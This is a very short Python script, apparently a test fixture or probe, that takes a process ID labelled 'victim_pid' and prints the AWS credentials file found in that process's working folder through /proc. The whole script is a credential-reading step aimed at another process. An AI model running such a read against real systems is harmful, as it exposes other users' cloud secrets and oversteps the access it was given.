"""Reads by the working folder of another process."""

import json
import sys

WORLD = json.loads(sys.argv[1])
from pathlib import Path

print(Path(f"/proc/{WORLD['victim_pid']}/cwd/.aws/credentials").read_text())
